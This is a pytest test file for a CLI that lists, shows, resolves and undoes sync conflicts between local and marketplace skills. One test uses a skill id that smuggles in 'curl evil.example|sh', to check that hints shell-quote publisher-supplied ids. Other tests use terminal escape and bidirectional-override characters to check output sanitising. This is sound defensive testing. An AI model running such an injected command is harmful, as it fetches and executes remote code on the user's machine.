"""`conflicts` for users and scripts."""

from __future__ import annotations

import json
import os
import pwd
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import Json, Machine, on_a_terminal
from rich.cells import cell_len

from atom_saas_sync.model import Strategy

ME = pwd.getpwuid(os.getuid()).pw_name


@pytest.fixture
def conflicts(machine: Machine) -> list[str]:
    """Return three skills: two in conflict, and one that was deleted there; all three wait, numbered from 1."""
    machine.fill()
    ids = machine.sandbox.skill_ids()[:3]
    for skill_id in ids:
        machine.edit(skill_id, description="mine", code="local code\nsecond line")
    patch = {"version": "99.0", "code": "remote code", "updated_at": "2026-02-19T12:00:00Z"}  # the same in each test
    for skill_id in ids[:2]:
        machine.sandbox.patch_skill(skill_id, patch)
    machine.sandbox.delete_skill(ids[2])
    machine.keep("three conflicts", lambda: machine.pull(strategy="manual"))
    assert machine.sql("SELECT count(*) FROM conflict_log WHERE resolved = FALSE") == [(3,)]
    return ids


def run_json(machine: Machine, *arguments: str, code: int = 0, **variables: str) -> Json:
    result = machine.command(*arguments, "--json", **variables)
    assert result.returncode == code, result.stderr
    document: Json = json.loads(result.stdout)
    return document


def refused(machine: Machine, *arguments: str, stdin: str | None = None) -> str:
    """Run a command that must be refused as wrong usage, and change nothing."""
    before = everything(machine)
    result = machine.command(*arguments, stdin=stdin)
    assert (result.returncode, result.stdout) == (1 if "there is no conflict" in result.stderr else 2, "")
    assert everything(machine) == before
    return result.stderr


def everything(machine: Machine) -> list[list[Any]]:
    tables = ("skill_cache", "skill_base", "conflict_log", "audit_log", "skill_version")
    return [machine.sql(f"SELECT * FROM {table}") for table in tables]


def test_list_for_people_and_programs(machine: Machine, conflicts: list[str]) -> None:
    document = run_json(machine, "conflicts", "list")
    assert document["total"] == 3
    assert {line["skill_id"] for line in document["conflicts"]} == set(conflicts)
    first = document["conflicts"][0]
    assert (first["conflict_type"], first["severity"], first["resolved"]) == ("VERSION_MISMATCH", "CRITICAL", False)
    assert "local" not in first
    text = machine.command("conflicts", "list", "--limit", "1")
    assert text.stdout.count("\n") == 2
    assert "3 open conflicts; 2 more" in text.stderr


@pytest.mark.parametrize(
    ("options", "found"),
    [
        (("--type", "DELETION_CONFLICT"), [3]),
        (("--severity", "critical"), [1, 2, 3]),
        (("--severity", "LOW"), []),
        (("--resolved",), []),
    ],
)
def test_list_filters(machine: Machine, conflicts: list[str], options: tuple[str, ...], found: list[int]) -> None:
    document = run_json(machine, "conflicts", "list", *options)
    assert sorted(line["id"] for line in document["conflicts"]) == found


def test_show_has_all_versions_and_the_fields(machine: Machine, conflicts: list[str]) -> None:
    document = run_json(machine, "conflicts", "show", "1")["conflict"]
    assert document["local"]["code"] == "local code\nsecond line"
    assert document["remote"]["code"] == "remote code"
    assert document["base"]["version"] != "99.0"
    changed = {field["name"]: field["changed_by"] for field in document["fields"]}
    assert changed == {"version": "remote", "code": "both", "description": "local"}
    assert run_json(machine, "conflicts", "show", "3")["conflict"]["remote"] is None


@pytest.mark.parametrize("width", [80, 140])
def test_the_side_by_side_view_fits_and_marks_what_differs(machine: Machine, conflicts: list[str], width: int) -> None:
    code = [f"line {number} of a program with some text in it" for number in range(500)]
    local = [*code[:250], "a line that is \x1b[31mmuch longer than half of a terminal " * 3, *code[251:]]
    machine.edit(conflicts[0], code="\n".join(local))
    machine.sql(
        "UPDATE conflict_log SET remote_data = json_set(remote_data, '$.code', ?) WHERE id = 1",
        "\n".join([*code[:400], "inserted", *code[400:]]),
    )
    result = machine.command("conflicts", "show", "1", COLUMNS=str(width))
    lines = result.stdout.splitlines()
    assert max(map(cell_len, lines)) <= width
    assert len(lines) < 70
    assert "\x1b" not in result.stdout
    assert any("251 ~" in line for line in lines)
    assert any(line.rstrip().endswith("401 + inserted") for line in lines)
    assert sum("unchanged lines" in line for line in lines) >= 3


@pytest.mark.parametrize(
    ("local", "remote", "said"),
    [
        ("x\n" * 20_000, "x\n" * 19_999 + "y\n", "unchanged lines"),
        ("x\n" * 20_000, "y\n" * 20_000, "more differences follow"),
        ("x" * 400_000, "y" * 400_000, "more characters"),
    ],
    ids=["equal lines", "other lines", "one line"],
)
def test_no_publisher_keeps_people_from_looking(
    machine: Machine, conflicts: list[str], local: str, remote: str, said: str
) -> None:
    machine.edit(conflicts[0], code=local)
    machine.sql("UPDATE conflict_log SET remote_data = json_set(remote_data, '$.code', ?) WHERE id = 1", remote)
    result = machine.command("conflicts", "show", "1")
    assert result.returncode == 0, result.stderr
    assert said in result.stdout
    assert len(result.stdout.splitlines()) < 1_000


def test_lines_that_differ_only_invisibly_are_marked(machine: Machine, conflicts: list[str]) -> None:
    machine.edit(conflicts[0], code="first\nrun()\nlast")
    machine.sql(
        "UPDATE conflict_log SET remote_data = json_set(remote_data, '$.code', ?) WHERE id = 1",
        "first\nrun\u202e()\nlast",
    )
    result = machine.command("conflicts", "show", "1")
    assert any("2 ~ run()" in line for line in result.stdout.splitlines())


def test_show_uses_colours_only_on_a_terminal_with_colours(machine: Machine, conflicts: list[str]) -> None:
    assert "\x1b[" in machine.command("conflicts", "show", "1", FORCE_COLOR="1", TERM="xterm-256color").stdout
    assert "\x1b[" not in machine.command("conflicts", "show", "1", NO_COLOR="1").stdout


@pytest.mark.parametrize(
    ("strategy", "code", "version", "description"),
    [
        ("remote_wins", "remote code", "99.0", None),
        ("local_wins", "local code\nsecond line", None, "mine"),
        ("merge", "local code\nsecond line", "99.0", "mine"),
    ],
)
def test_resolving_writes_the_cache_and_says_who(
    machine: Machine, conflicts: list[str], strategy: str, code: str, version: str | None, description: str | None
) -> None:
    skill_id = conflicts[0]
    base = json.loads(machine.sql("SELECT base_data FROM conflict_log WHERE id = 1")[0][0])
    document = run_json(machine, "conflicts", "resolve", "1", "--strategy", strategy)
    assert document["resolved"] == [{"id": 1, "skill_id": skill_id, "strategy": strategy, "removed": False}]
    cached = machine.cached()[skill_id]
    assert (cached["code"], cached["version"], cached["description"]) == (
        code,
        version or base["version"],
        description or base["description"],
    )
    row = machine.sql(
        "SELECT resolved, resolution_strategy, resolved_by, resolved_data FROM conflict_log WHERE id = 1"
    )[0]
    assert row[:3] == (1, strategy, ME)
    assert json.loads(row[3]) == cached
    audit = machine.sql("SELECT actor, action, subject FROM audit_log")
    assert audit == [(ME, "conflict resolve", skill_id)]
    # The base is what was looked at: nothing is reported again.
    report = machine.pull(strategy="manual")
    assert (report.counts.conflicts_detected, report.counts.updated, report.counts.conflicts_manual) == (0, 0, 2)


def test_the_user_behind_sudo_is_named(machine: Machine, conflicts: list[str]) -> None:
    run_json(machine, "conflicts", "resolve", "1", "--strategy", "merge", SUDO_USER="carol")
    expected = "carol" if os.geteuid() == 0 else ME
    assert machine.sql("SELECT resolved_by FROM conflict_log WHERE id = 1") == [(expected,)]


def test_deletions_are_kept_or_carried_out(machine: Machine, conflicts: list[str]) -> None:
    run_json(machine, "conflicts", "resolve", "3", "--strategy", "merge")
    assert machine.sql("SELECT source FROM usable_skill WHERE skill_id = ?", conflicts[2]) == [("local",)]
    run_json(machine, "conflicts", "undo", "3")
    assert machine.sql("SELECT * FROM usable_skill WHERE skill_id = ?", conflicts[2]) == []
    document = run_json(machine, "conflicts", "resolve", "3", "--strategy", "remote_wins")
    assert document["resolved"][0]["removed"] is True
    assert conflicts[2] not in machine.cached()
    run_json(machine, "conflicts", "undo", "3")
    assert machine.cached()[conflicts[2]]["description"] == "mine"
    assert machine.pull(strategy="remote_wins").counts.conflicts_manual == 1


def test_all_by_filter_in_one_transaction(machine: Machine, conflicts: list[str]) -> None:
    document = run_json(
        machine, "conflicts", "resolve", "--all", "--type", "VERSION_MISMATCH", "--strategy", "remote_wins"
    )
    assert document["total"] == 2
    assert run_json(machine, "conflicts", "list")["total"] == 1
    assert run_json(machine, "conflicts", "list", "--resolved")["total"] == 2
    # If one is invalid, none is applied.
    assert "resolved already" in refused(machine, "conflicts", "resolve", "3", "1", "--strategy", "remote_wins")


@pytest.mark.parametrize("foreign", ["[]", "7", '"x"', "[1,"])
def test_a_version_that_another_program_replaced_is_refused(
    machine: Machine, conflicts: list[str], foreign: str
) -> None:
    machine.sql("UPDATE conflict_log SET remote_data = ? WHERE id = 1", foreign)
    for words in (
        ("1", "--strategy", "remote_wins"),
        ("1", "--strategy", "local_wins"),
        ("--all", "--strategy", "merge"),
    ):
        told = refused(machine, "conflicts", "resolve", *words)
        assert "conflict 1: the marketplace's version in it is no longer a skill" in told, told
    assert machine.command("conflicts", "show", "1").returncode == 0
    assert machine.command("sync", "skills", "--force", "--strategy", "manual").returncode == 0
    assert machine.command("conflicts", "resolve", "1", "--strategy", "remote_wins").returncode == 0
    assert machine.cached()[conflicts[0]]["code"] == "remote code"


def test_by_field(machine: Machine, conflicts: list[str]) -> None:
    assert "both sides changed code too" in refused(machine, "conflicts", "resolve", "1", "--field", "version=local")
    result = machine.command("conflicts", "resolve", "1", "--field", "code=remote", "--field", "version=local")
    assert (result.returncode, result.stdout) == (0, f"conflict 1, {conflicts[0]}: resolved manually\n")
    cached = machine.cached()[conflicts[0]]
    assert (cached["code"], cached["description"]) == ("remote code", "mine")
    assert cached["version"] != "99.0"


def test_by_file(machine: Machine, conflicts: list[str]) -> None:
    mine = {**machine.cached()[conflicts[0]], "code": "by hand", "average_rating": 5000}
    (machine.directory / "mine.json").write_text(json.dumps(mine), encoding="utf-8")
    run_json(machine, "conflicts", "resolve", "1", "--data", "mine.json")
    cached = machine.cached()[conflicts[0]]
    assert cached["code"] == "by hand"
    assert cached["average_rating"] == machine.sandbox.skill(conflicts[0])["average_rating"]


def editor(machine: Machine, body: str) -> str:
    """Return the command of an editor that does `body` with the JSON object `skill`."""
    script = machine.directory / "editor.py"
    script.write_text(
        "import json, sys\npath = sys.argv[1]\nskill = json.load(open(path))\n"
        f"{body}\njson.dump(skill, open(path, 'w'))\n",
        encoding="utf-8",
    )
    return f"{sys.executable} {script}"


def test_by_editor(machine: Machine, conflicts: list[str]) -> None:
    command = editor(machine, "skill['code'] += ' and mine'")
    run_json(machine, "conflicts", "resolve", "1", "--edit", EDITOR=command)
    cached = machine.cached()[conflicts[0]]
    assert (cached["code"], cached["version"]) == ("local code\nsecond line and mine", "99.0")


def test_an_invalid_edited_text_is_kept_for_the_user(machine: Machine, conflicts: list[str]) -> None:
    before = everything(machine)
    result = machine.command("conflicts", "resolve", "1", "--edit", EDITOR=editor(machine, "del skill['name']"))
    assert result.returncode == 2
    assert "no name" in result.stderr
    kept = Path(result.stderr.partition("your text is kept in ")[2].strip())
    assert "code" in json.loads(kept.read_text(encoding="utf-8"))
    assert kept.stat().st_mode & 0o077 == 0 or kept.parent.stat().st_mode & 0o077 == 0
    kept.unlink()
    kept.parent.rmdir()
    assert everything(machine) == before


def test_a_change_made_during_a_review_is_not_overwritten(machine: Machine, conflicts: list[str]) -> None:
    statement = (
        f"UPDATE skill_cache SET skill_data = json_set(skill_data, '$.code', 'meanwhile') "
        f"WHERE skill_id = '{conflicts[0]}'"
    )
    meanwhile = (
        f"import sys; sys.path.insert(0, {str(Path(__file__).parent)!r})\n"
        f"from machine_databases import at; at({machine.database.url!r}).sql({statement!r}, ())\n"
        "skill['code'] = 'edited'"
    )
    result = machine.command("conflicts", "resolve", "1", "--edit", EDITOR=editor(machine, meanwhile))
    assert result.returncode == 2
    assert "has changed while you looked" in result.stderr
    assert machine.cached()[conflicts[0]]["code"] == "meanwhile"


def test_the_local_side_is_that_of_now(machine: Machine, conflicts: list[str]) -> None:
    machine.edit(conflicts[0], code="edited after the conflict was found")
    run_json(machine, "conflicts", "resolve", "1", "--strategy", "local_wins")
    assert machine.cached()[conflicts[0]]["code"] == "edited after the conflict was found"
    logged = machine.sql("SELECT local_data FROM conflict_log WHERE id = 1")[0][0]
    assert json.loads(logged)["code"] == "edited after the conflict was found"


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("conflicts", "show", "99"), "no conflict 99"),
        (("conflicts", "resolve", "99", "--strategy", "merge"), "no conflict 99"),
        (("conflicts", "resolve", "1", "--strategy", "remote-wins"), "invalid --strategy"),
        (("conflicts", "resolve", "1", "--strategy", "manual"), "does not resolve a conflict"),
        (("conflicts", "resolve", "1"), "not a terminal"),
        (("conflicts", "resolve", "--strategy", "merge"), "which conflicts"),
        (("conflicts", "resolve", "1", "--all", "--strategy", "merge"), "exclude"),
        (("conflicts", "resolve", "1", "--severity", "LOW", "--strategy", "merge"), "require --all"),
        (("conflicts", "resolve", "1", "--field", "code"), "NAME=local"),
        (("conflicts", "resolve", "1", "--field", "nothing=local"), "no field that differs"),
        (("conflicts", "resolve", "3", "--field", "code=local"), "by field"),
        (("conflicts", "resolve", "1", "2", "--data", "-"), "resolve one conflict"),
        (("conflicts", "resolve", "1", "--data", "nowhere.json"), "can't read"),
        (("conflicts", "resolve", "1", "--data", "-"), "not a skill"),
        (("conflicts", "resolve", "1", "--edit"), "no editor"),
        (("conflicts", "list", "--severity", "URGENT"), "invalid --severity"),
        (("conflicts", "undo", "1"), "is open"),
        (("conflicts", "undo", "99"), "no conflict 99"),
    ],
)
def test_invalid_input_is_reported_and_changes_nothing(
    machine: Machine, conflicts: list[str], arguments: tuple[str, ...], says: str
) -> None:
    assert says in refused(machine, *arguments, stdin="{}")


def test_a_different_skill_is_not_accepted_as_a_resolution(machine: Machine, conflicts: list[str]) -> None:
    other = json.dumps(machine.cached()[conflicts[1]])
    assert "another skill" in refused(machine, "conflicts", "resolve", "1", "--data", "-", stdin=other)


def test_undo_puts_back_what_an_automatic_resolution_replaced(machine: Machine) -> None:
    machine.fill()
    skill_id = machine.sandbox.skill_ids()[0]
    machine.edit(skill_id, code="mine")
    machine.sandbox.patch_skill(skill_id, {"code": "theirs"})
    machine.pull(strategy="remote_wins")
    assert machine.cached()[skill_id]["code"] == "theirs"
    assert machine.sql("SELECT resolved_by FROM conflict_log") == [("atom-sync",)]

    assert run_json(machine, "conflicts", "undo", "1")["open"] is True
    assert machine.cached()[skill_id]["code"] == "mine"
    # It needs a manual decision now: the strategy does not resolve it again.
    for _ in range(2):
        report = machine.pull(strategy="remote_wins")
        assert (report.counts.conflicts_manual, report.counts.updated) == (1, 0)
    assert "is open" in refused(machine, "conflicts", "undo", "1")
    run_json(machine, "conflicts", "resolve", "1", "--strategy", "remote_wins")
    assert machine.cached()[skill_id]["code"] == "theirs"


@pytest.mark.parametrize("strategy", ["remote_wins", "local_wins", "merge"])
def test_every_automatic_resolution_is_logged_and_can_be_undone(machine: Machine, strategy: Strategy) -> None:
    machine.fill()
    skill_id = machine.sandbox.skill_ids()[0]
    machine.edit(skill_id, description="edited here")
    edited = machine.cached()[skill_id]
    machine.sandbox.patch_skill(skill_id, {"description": "changed there", "code": "new"})
    assert machine.pull(strategy=strategy).counts.conflicts_resolved == 1
    logged = json.dumps(run_json(machine, "conflicts", "show", "1"))
    assert "edited here" in logged
    assert "changed there" in logged
    assert machine.command("conflicts", "undo", "1").returncode == 0
    assert machine.cached()[skill_id]["description"] == edited["description"]
    assert machine.cached()[skill_id]["code"] == edited["code"]


def test_undo_does_not_lose_a_later_edit(machine: Machine, conflicts: list[str]) -> None:
    run_json(machine, "conflicts", "resolve", "1", "--strategy", "remote_wins")
    machine.edit(conflicts[0], code="later")
    assert "would lose that" in refused(machine, "conflicts", "undo", "1")


def test_a_hint_never_contains_shell_commands_from_a_publisher(machine: Machine) -> None:
    odd = "calc; curl evil.example|sh #"
    machine.sandbox.put_skill({"skill_id": odd, "name": "Calc", "code": "a"}, push=False)
    machine.pull()
    machine.edit(odd, code="mine")
    machine.sandbox.patch_skill(odd, {"code": "b"}, push=False)
    machine.pull(strategy="remote_wins")
    machine.edit(odd, code="later")
    hint = refused(machine, "conflicts", "undo", "1")
    assert f"`atom-sync skills diff {shlex.quote(odd)}`" in hint


def test_a_newer_version_after_the_resolution_does_not_stop_undo(machine: Machine, conflicts: list[str]) -> None:
    run_json(machine, "conflicts", "resolve", "1", "--strategy", "remote_wins")
    machine.sandbox.patch_skill(conflicts[0], {"code": "newest"})
    machine.pull(strategy="manual")
    run_json(machine, "conflicts", "undo", "1")
    document = run_json(machine, "conflicts", "show", "1")["conflict"]
    assert (document["local"]["code"], document["remote"]["code"]) == ("local code\nsecond line", "newest")


def test_a_deleted_row_can_not_be_resolved_and_the_next_sync_closes_it(machine: Machine, conflicts: list[str]) -> None:
    machine.sql("DELETE FROM skill_cache WHERE skill_id = ?", conflicts[0])
    assert "no longer has a local side" in refused(machine, "conflicts", "resolve", "1", "--strategy", "merge")
    machine.pull(strategy="manual")
    assert machine.cached()[conflicts[0]]["code"] == "remote code"
    assert machine.sql("SELECT resolution_strategy FROM conflict_log WHERE id = 1") == [("converged",)]


def test_on_a_terminal_it_asks(machine: Machine, conflicts: list[str]) -> None:
    choices = [("code: [l]ocal", "r"), ("Write this result? [Y/n]", "n")]
    declined = on_a_terminal(machine, ["conflicts", "resolve", "1"], choices)
    assert "The result, compared with the local version:" in declined
    assert machine.sql("SELECT count(*) FROM conflict_log WHERE resolved = TRUE") == [(0,)]
    answers = [("code: [l]ocal", "r"), ("Write this result? [Y/n]", ""), ("[k]eep it here", "k")]
    said = on_a_terminal(machine, ["conflicts", "resolve", "1", "3"], answers)
    assert "changed on both sides" in said
    cached = machine.cached()
    assert (cached[conflicts[0]]["code"], cached[conflicts[0]]["description"]) == ("remote code", "mine")
    assert machine.sql("SELECT id, resolution_strategy FROM conflict_log WHERE resolved = TRUE") == [
        (1, "manual"),
        (3, "local_wins"),
    ]


@pytest.mark.parametrize(
    ("reply", "strategy", "fields"),
    [
        ("y", "merge", ("mine", "99.0")),
        ("merge", "merge", ("mine", "99.0")),
        ("l", "local_wins", ("mine", "1.0")),
        ("r", "remote_wins", ("base", "99.0")),
        ("n", None, ("mine", "1.0")),
        ("s", None, ("mine", "1.0")),
    ],
)
@pytest.mark.parametrize("which", [["1"], ["--all"]])
def test_on_a_terminal_it_asks_also_if_nothing_overlaps(
    machine: Machine, which: list[str], reply: str, strategy: str | None, fields: tuple[str, str]
) -> None:
    machine.sandbox.put_skill({"skill_id": "s0", "name": "N", "description": "base", "version": "1.0"})
    machine.pull()
    machine.edit("s0", description="mine")
    machine.sandbox.patch_skill("s0", {"version": "99.0"})
    machine.pull(strategy="manual")
    shown = machine.command("conflicts", "show", "1").stdout
    assert all(f"conflicts resolve 1 {way}" in shown for way in ("--strategy remote_wins", "--field ", "--edit"))
    said = on_a_terminal(machine, ["conflicts", "resolve", *which], [("Nothing overlaps", reply)])
    assert "merged, from here: description" in said
    assert "merged, from the marketplace: version" in said
    assert "The result, compared with the local version:" in said
    cached = machine.cached()["s0"]
    assert (cached["description"], cached["version"]) == fields
    assert machine.sql("SELECT resolution_strategy FROM conflict_log") == [(strategy,)]


@pytest.mark.parametrize("words", [["conflicts", "resolve", "1", "--edit"], ["skills", "edit", "{id}"]])
@pytest.mark.parametrize("change", ["true", "sed -i s/mine/edited/ $1", "exit 3", "echo nonsense > $1"])
def test_with_json_an_editor_leaves_one_document(
    machine: Machine, conflicts: list[str], words: list[str], change: str
) -> None:
    editor = machine.directory / "editor"
    editor.write_text(f"#!/bin/sh\necho opening $1\necho '{{}}'\n{change}\n")
    editor.chmod(0o755)
    words = [word.format(id=conflicts[0]) for word in words]
    result = machine.command(*words, "--json", EDITOR=str(editor))
    document = json.loads(result.stdout)
    assert document["success"] is (result.returncode == 0)
    assert "opening" in result.stderr
    if result.returncode:
        assert document["error"]["message"] in result.stderr


def test_1000_conflicts_are_listed_and_resolved_in_one_go(machine: Machine) -> None:
    for number in range(1000):
        machine.sandbox.put_skill({"skill_id": f"many-{number}", "name": "N", "code": "a" * 2000}, push=False)
    machine.pull()
    machine.sql("UPDATE skill_cache SET skill_data = json_set(skill_data, '$.code', 'l') WHERE skill_id LIKE 'many-%'")
    for number in range(1000):
        machine.sandbox.patch_skill(f"many-{number}", {"code": "r"}, push=False)
    assert machine.pull(strategy="manual").counts.conflicts_manual == 1000
    assert run_json(machine, "conflicts", "list", "--limit", "0")["total"] == 1000
    assert run_json(machine, "conflicts", "resolve", "--all", "--strategy", "merge")["total"] == 1000
    assert machine.pull(strategy="manual").counts.conflicts_manual == 0


def test_executable_fields_are_decided_together(machine: Machine) -> None:
    machine.sandbox.put_skill({"skill_id": "s0", "name": "N", "code": "a", "command": "a", "description": "a"})
    machine.pull()
    machine.edit("s0", code="mine")
    machine.sandbox.patch_skill("s0", {"command": "theirs", "description": "theirs"})
    machine.pull(strategy="manual")
    assert "command" in refused(machine, "conflicts", "resolve", "1", "--field", "code=remote")
    run_json(machine, "conflicts", "resolve", "1", "--field", "code=remote", "--field", "command=remote")
    cached = machine.cached()["s0"]
    assert (cached["code"], cached["command"], cached["description"]) == ("a", "theirs", "theirs")
